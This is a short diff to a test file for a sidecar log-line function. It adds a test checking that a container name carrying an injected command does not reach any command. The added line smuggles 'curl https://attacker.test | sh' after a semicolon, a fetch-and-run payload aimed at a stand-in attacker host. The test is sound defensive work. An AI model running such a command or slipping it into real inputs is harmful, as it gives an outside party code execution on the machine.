@@ -31,6 +31,11 @@ test('what was shown already has no line, and nothing has where there are no sid
   expect(sidecarLogLines([withSidecars('test')], [], kept)).toEqual([]);
 });
 
+test('what is no name gets into no command', () => {
+  const odd = { ...ended, container: 'sidecar-db; curl https://attacker.test | sh' };
+  expect(sidecarLogLines([withSidecars('test', odd)], [], kept)).toEqual([]);
+});
+
 test('of very many only some are named', () => {
   const lines = sidecarLogLines([withSidecars('test', ...Array<object>(8).fill(ended))], [], kept);
   expect([lines.length, lines.at(-1)]).toEqual([6, 'and 3 more sidecars']);
